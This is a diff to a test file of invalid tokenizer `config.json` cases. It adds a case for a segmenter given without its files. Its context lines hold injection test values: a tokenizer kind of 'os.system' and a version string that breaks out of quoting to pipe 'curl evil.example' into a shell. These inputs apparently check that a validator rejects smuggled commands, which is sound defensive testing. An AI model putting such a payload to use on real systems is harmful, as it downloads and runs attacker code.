@@ -161,6 +161,10 @@ CASES: list[Case] = [
     ),
     ("`config.json`: a tokenizer that is not known", config(lambda c: c["tokenizer"].update(kind="os.system"))),
     (
+        "`config.json`: a segmenter, without its files",
+        config(lambda c: c.update(tokenizer={"kind": "segmenter", "model": "0" * 16})),
+    ),
+    (
         "`config.json`: a version that is a command",
         config(lambda c: c["tokenizer"].update(kind="jieba", version="1'; curl evil.example | sh; '")),
     ),
